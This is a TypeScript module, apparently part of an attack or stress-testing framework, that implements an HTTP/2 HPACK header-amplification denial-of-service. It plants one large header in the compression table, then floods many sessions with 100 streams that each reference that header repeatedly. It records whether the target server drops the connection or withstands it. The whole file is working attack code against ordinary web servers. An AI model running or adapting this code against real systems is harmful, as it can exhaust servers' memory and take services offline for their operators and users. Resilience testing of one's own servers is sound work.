/** Headers that are small to send and large to hold: one value in the table that each stream names often. */
import { field, flags, frame, frames, requestFields } from '../../../support/http2-frames.ts'
import type { Attack } from '../attack.ts'
import { untilClosed } from '../send.ts'
import { flood } from '../tally.ts'
import { authorityOf, openSession } from './sessions.ts'

const streams = 100
const repeats = 25
const stayMs = 5_000

/** The first field of the dynamic table (RFC 7541, section 6.1, and appendix A). */
const newest = Buffer.from([0x80 + 62])

export const largeHeaders: Attack = {
  name: 'HTTP/2 headers by a table',
  prepare: (target) => (signal) =>
    flood({ atOnce: 40, pauseMs: 500, signal }, async (index) => {
      const socket = await openSession(target, index, signal)
      socket.pause()
      const fields = requestFields({ authority: authorityOf(target, index), path: '/' })
      const value = field('x-large', 'v'.repeat(3_900), { isIndexed: true })
      const named = Buffer.concat(Array.from({ length: repeats }, () => newest))
      const end = flags.endStream | flags.endHeaders
      const requests = Array.from({ length: streams }, (_, at) =>
        frame(frames.headers, end, 2 * at + 1, Buffer.concat([fields, at === 0 ? value : named])),
      )
      socket.write(Buffer.concat(requests))
      await untilClosed(socket, stayMs, signal)
      const outcome = socket.destroyed ? 'ended' : 'borne'
      socket.destroy()
      return outcome
    }),
}
